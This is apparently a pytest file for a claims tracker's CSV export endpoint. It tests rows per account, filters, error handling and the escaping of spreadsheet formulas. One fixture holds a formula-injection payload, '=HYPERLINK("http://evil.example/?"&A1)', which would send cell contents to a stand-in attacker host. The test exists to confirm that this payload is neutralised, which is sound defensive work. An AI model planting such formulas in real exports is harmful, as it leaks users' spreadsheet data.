"""Claims with their accounts as CSV, safe to open in a spreadsheet."""

import csv
import io

from tests.factories import make_account, make_claim, make_source
from tracker.api.csv_export import HEADER, safe_cell
from tracker.vocabularies import Stance


def export(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/api/claims/export.csv{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == HEADER
    return list(reader)


def test_one_row_per_account(editor_api, newsroom):
    lonely = make_claim(text="A claim nobody made yet")
    rows = export(editor_api)
    by_claim: dict[str, list[dict]] = {}
    for row in rows:
        by_claim.setdefault(row["claim_id"], []).append(row)
    assert len(by_claim[str(newsroom.toll.pk)]) == 2
    assert len(by_claim[str(lonely.pk)]) == 1 and by_claim[str(lonely.pk)][0]["account_id"] == ""
    sana = next(r for r in rows if r["account_id"] == str(newsroom.sana_account.pk))
    assert sana["source_name"] == "SANA" and sana["source_root"] == "Syrian government"
    assert sana["quote"] == "more than 30 civilians"
    assert sana["document_url"] == "https://news.example/a"
    assert sana["count_min"] == "31" and sana["count_max"] == ""
    assert sana["event_name"] == "Strike in Deir ez-Zor"


def test_the_list_filters_apply(editor_api, newsroom):
    rows = export(editor_api, f"?aspect=perpetrator&source={newsroom.coalition.pk}")
    assert {row["claim_id"] for row in rows} == {str(newsroom.perpetrator.pk)}


def test_formulas_are_defused(editor_api, newsroom):
    evil = make_claim(text='=HYPERLINK("http://evil.example/?"&A1)')
    make_account(claim=evil, source=make_source(name="@someone"), stance=Stance.ASSERTS)
    make_account(claim=evil, source=make_source(name="+49 phone"), stance=Stance.DENIES)
    make_account(claim=evil, source=make_source(name="-minus"), stance=Stance.HEDGES)
    rows = [r for r in export(editor_api) if r["claim_id"] == str(evil.pk)]
    assert {r["claim_text"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1)'}
    assert {r["source_name"] for r in rows} == {"'@someone", "'+49 phone", "'-minus"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell():
    assert safe_cell("\tcmd") == "'\tcmd"
    assert safe_cell("plain") == "plain"
    assert safe_cell(-5) == -5  # numbers are numbers, not formulas
    assert safe_cell("") == ""


def test_bad_filters_are_400_not_a_broken_file(editor_api, newsroom):
    response = editor_api.get("/api/claims/export.csv?status=probably")
    assert response.status_code == 400
